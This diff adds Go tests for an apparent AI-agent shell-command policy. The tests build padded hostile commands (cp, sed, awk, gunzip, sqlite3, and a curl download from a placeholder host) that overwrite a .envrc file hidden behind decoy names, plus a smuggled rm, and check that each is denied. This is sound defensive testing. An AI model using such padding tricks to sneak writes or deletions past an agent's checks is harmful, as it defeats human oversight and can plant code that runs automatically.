@@ -153,3 +153,44 @@ func TestManyPatternsMayBeCredentials(t *testing.T) {
 		}
 	}
 }
+
+// Whoever repeats a name, or writes to many files, hides no file behind them.
+func TestNoFileIsHiddenBehindOthers(t *testing.T) {
+	p := policyOf(t, PolicySpec{InlineContext: "trust"})
+	s, err := p.Session(ContextSpec{Mode: new("bypass-approvals"), WorkspaceRoot: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range []struct{ begin, piece, end string }{
+		{"cp", " a", " x/.envrc ."}, {"cp", " a#", " x/.envrc ."},
+		{"sed", " -e 's/a/b/w a'", " -e 's/a/b/w .envrc' x"}, {"sed", " -e 's/a/b/w a#'", " -e 's/a/b/w .envrc' x"},
+		{"awk '", `{print > "a"} `, `{print > ".envrc"}'`}, {"awk '", `{print > "a#"} `, `{print > ".envrc"}'`},
+		{"gunzip", " a", " .envrc.gz"}, {"gunzip", " a#", " .envrc.gz"},
+		{"sqlite3 x '", ".output a\n", ".output .envrc'"}, {"sqlite3 x '", ".output a#\n", ".output .envrc'"},
+		{"curl -O https://h.example/.envrc", " https://h.example/a", ""}, {"curl -O", " https://h.example/a#", " https://h.example/.envrc"},
+	} {
+		text := hostile(row.begin, row.piece, row.end, len(row.begin)+len(row.end)+320*(len(row.piece)+2))
+		if d := p.Decide(s, shellCall(text)); d.Outcome.Allowed() {
+			t.Errorf("%s…%s: %s: %s", text[:40], row.end, d.Code, d.Reason)
+		}
+	}
+}
+
+// A text that comes near to several bounds counts as not seen whole.
+func TestEffortHasABound(t *testing.T) {
+	p := policyOf(t, PolicySpec{InlineContext: "trust", Deny: ListsSpec{Commands: []string{"denied"}}})
+	s, err := p.Session(ContextSpec{Mode: new("bypass-approvals"), WorkspaceRoot: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	half := hostile("", "a=b; test -f x# && ls ", ";", 5000)
+	for text, runs := range map[string]bool{
+		half: true,
+		half + " cat" + hostile("", " d#/e/f/g/h/i/j/k/l/m/n/o/p/q/r/s/t/u", "", 4900): true,
+		half + "; " + hostile("", "a=b; test -f y# && rm ", ";", 4900):                 false,
+	} {
+		if d := p.Decide(s, shellCall(text)); d.Outcome.Allowed() != runs {
+			t.Errorf("%.40s… of %d bytes: %s: %s", text, len(text), d.Code, d.Reason)
+		}
+	}
+}
